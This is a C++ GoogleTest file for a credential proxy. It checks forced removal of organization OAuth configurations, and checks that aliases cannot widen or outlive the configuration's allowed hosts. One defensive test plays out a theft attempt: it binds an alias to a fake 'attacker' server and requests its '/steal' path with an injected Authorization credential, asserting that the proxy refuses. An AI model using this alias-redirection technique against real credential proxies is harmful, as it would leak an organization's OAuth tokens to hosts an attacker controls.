// Organization OAuth configurations and the aliases that use them, through
// the real binary: removing a configuration that aliases use is refused,
// --force removes it anyway, and from the next request on the alias fails
// with a clear error naming the configuration; nothing reaches the upstream.
#include <gtest/gtest.h>

#include <boost/json.hpp>

#include "tests/support/checks.hpp"
#include "tests/support/credproxy_instance.hpp"
#include "tests/support/fake_idp.hpp"
#include "tests/support/fake_upstream.hpp"
#include "tests/support/raw_client.hpp"

namespace credproxy::test {
namespace {

const std::string client_secret = "CANARY-org-secret-5e1a";

std::string org_doc(const std::string& host) {
  return R"({"name":"Test SSO","provider":"generic","hosts":[")" + host + R"("],"clientId":"app","clientSecret":")" +
         client_secret + R"(","issuer":"https://login.example.com","grantType":"client_credentials"})";
}

TEST(OrgAlias, ForcedRemovalLeavesAliasesFailingWithAClearError) {
  fake_upstream upstream;
  credproxy_instance proxy{instance_options()};
  ASSERT_EQ(proxy.cli({"org", "oauth", "add", "--title", "sso.test", "--json", "-"}, org_doc(upstream.authority()))
                .status.code,
            0);
  const auto added = proxy.cli({"cred", "add", "--solution", "default", "--key", "ms.OAuth", "--json", "-"},
                               R"({"type":"oauth_alias","alias":"sso.test"})");
  ASSERT_EQ(added.status.code, 0) << added.err;

  const auto refused = proxy.cli({"org", "oauth", "remove", "--title", "sso.test"});
  EXPECT_EQ(refused.status.code, 2);
  EXPECT_NE(refused.err.find("default/ms.OAuth"), std::string::npos) << refused.err;
  EXPECT_NE(refused.err.find("--force"), std::string::npos) << refused.err;

  const auto forced = proxy.cli({"org", "oauth", "remove", "--title", "sso.test", "--force"});
  ASSERT_EQ(forced.status.code, 0) << forced.err;
  ASSERT_TRUE(proxy.reload_vault());

  const auto r = proxy.curl().get(upstream.url("/me"), {"-H", "Authorization: {{cred:ms.OAuth}}"});
  ASSERT_EQ(r.status.code, 0) << r.err;
  EXPECT_TRUE(is_proxy_error(r.only(), 401, "oauth_credentials_missing", "ms.OAuth"));
  EXPECT_NE(r.only().body.find("sso.test"), std::string::npos) << r.only().body;
  EXPECT_NE(r.only().body.find("no longer exists"), std::string::npos) << r.only().body;
  EXPECT_TRUE(upstream_untouched(upstream));

  // The list says so too, without any secret.
  const auto list = proxy.cli({"cred", "list", "--solution", "default", "--json"});
  EXPECT_NE(list.out.find("sso.test"), std::string::npos) << list.out;
  proxy.stop();
  EXPECT_EQ(proxy.log().find(client_secret), std::string::npos);
}

std::string idp_org_doc(const fake_idp& idp, const std::vector<std::string>& hosts) {
  boost::json::array list;
  for (const auto& h : hosts) list.emplace_back(h);
  return boost::json::serialize(boost::json::object{{"name", "Test SSO"},
                                                    {"provider", "openid"},
                                                    {"hosts", std::move(list)},
                                                    {"clientId", "app"},
                                                    {"clientSecret", client_secret},
                                                    {"issuer", idp.issuer()},
                                                    {"grantType", "client_credentials"}});
}

std::string alias_with_hosts(const std::string& host) {
  return R"({"type":"oauth_alias","alias":"sso.test","hosts":[")" + host + R"("]})";
}

// Whoever holds the admin token is never shown a secret, so an alias bound
// to a host of their choosing must not receive the organization's token:
// an alias may only narrow its configuration's hosts (SPEC §2).
TEST(OrgAlias, AnAliasCannotWidenTheConfigurationsHosts) {
  fake_idp idp;
  idp.add_client({"app", client_secret, "client_secret_basic"});
  fake_upstream api{fake_upstream::kind::https};
  api.set_handler(idp.resource_handler());
  fake_upstream attacker{fake_upstream::kind::https};
  credproxy_instance proxy{instance_options().with_ca(shared_test_ca().ca_cert_pem)};
  ASSERT_EQ(proxy.cli({"org", "oauth", "add", "--title", "sso.test", "--json", "-"},
                      idp_org_doc(idp, {api.authority()})).status.code, 0);

  // The CLI refuses it, naming the entry; so does the admin API.
  const auto cli = proxy.cli({"cred", "add", "--solution", "default", "--key", "grab", "--json", "-"},
                             alias_with_hosts(attacker.authority()));
  EXPECT_EQ(cli.status.code, 2);
  EXPECT_NE(cli.err.find("\"" + attacker.authority() + "\" is not covered"), std::string::npos) << cli.err;
  const std::string body = alias_with_hosts(attacker.authority());
  const std::string admin_token = proxy.admin_token();
  ASSERT_TRUE(proxy.reload_vault());  // the new admin token
  const auto api_put = raw_exchange(proxy.admin_port(),
                                    "PUT /v1/solutions/default/credentials/grab HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                                    "Authorization: Bearer " + admin_token +
                                        "\r\nContent-Type: application/json\r\nContent-Length: " +
                                        std::to_string(body.size()) + "\r\nConnection: close\r\n\r\n" + body);
  ASSERT_TRUE(api_put.has_value());
  EXPECT_EQ(api_put->status, 400u) << api_put->body;
  EXPECT_NE(api_put->body.find(attacker.authority()), std::string::npos) << api_put->body;
  EXPECT_NE(proxy.cli({"cred", "show", "--solution", "default", "--key", "grab"}).status.code, 0);

  const auto r = proxy.curl().get(attacker.url("/steal", "http"), {"-H", "Authorization: {{cred:grab}}"});
  ASSERT_EQ(r.status.code, 0) << r.err;
  EXPECT_TRUE(is_proxy_error(r.only(), 403, "credential_not_found", "grab"));
  EXPECT_TRUE(upstream_untouched(attacker));
  EXPECT_EQ(idp.token_requests(), 0u);
}

// The configuration can be narrowed after its aliases were written: from
// the next snapshot on, an alias it no longer covers is refused at request
// time with a clear error naming the entry, and never gets the token.
TEST(OrgAlias, AnAliasTheConfigurationNoLongerCoversIsRefused) {
  fake_idp idp;
  idp.add_client({"app", client_secret, "client_secret_basic"});
  fake_upstream api{fake_upstream::kind::https};
  api.set_handler(idp.resource_handler());
  fake_upstream other{fake_upstream::kind::https};
  credproxy_instance proxy{instance_options().with_ca(shared_test_ca().ca_cert_pem)};
  ASSERT_EQ(proxy.cli({"org", "oauth", "add", "--title", "sso.test", "--json", "-"},
                      idp_org_doc(idp, {api.authority(), other.authority()})).status.code, 0);
  proxy.add_credential({"narrow", alias_with_hosts(other.authority())});
  proxy.add_credential({"api", alias_with_hosts(api.authority())});
  ASSERT_EQ(proxy.cli({"org", "oauth", "update", "--title", "sso.test", "--json", "-"},
                      idp_org_doc(idp, {api.authority()})).status.code, 0);
  ASSERT_TRUE(proxy.reload_vault());

  const auto r = proxy.curl().get(other.url("/me", "http"), {"-H", "Authorization: {{cred:narrow}}"});
  ASSERT_EQ(r.status.code, 0) << r.err;
  EXPECT_TRUE(is_proxy_error(r.only(), 403, "host_not_allowed", "narrow"));
  EXPECT_NE(r.only().body.find("hosts entry \\\"" + other.authority() + "\\\" is not covered"), std::string::npos)
      << r.only().body;  // JSON-escaped quotes around the entry
  EXPECT_NE(r.only().body.find("sso.test"), std::string::npos) << r.only().body;
  EXPECT_TRUE(upstream_untouched(other));

  // The alias that still narrows works; the list names the refused one's problem.
  const auto ok = proxy.curl().get(api.url("/me", "http"), {"-H", "Authorization: {{cred:api}}"});
  ASSERT_EQ(ok.status.code, 0) << ok.err;
  EXPECT_EQ(ok.only().status, 200u) << ok.only().body;
  const auto list = proxy.cli({"cred", "list", "--solution", "default", "--json"});
  EXPECT_NE(list.out.find("is not covered"), std::string::npos) << list.out;
  proxy.stop();
  for (const auto& token : idp.issued_tokens()) EXPECT_EQ(r.only().body.find(token), std::string::npos);
  EXPECT_EQ(proxy.log().find(client_secret), std::string::npos);
}

}  // namespace
}  // namespace credproxy::test
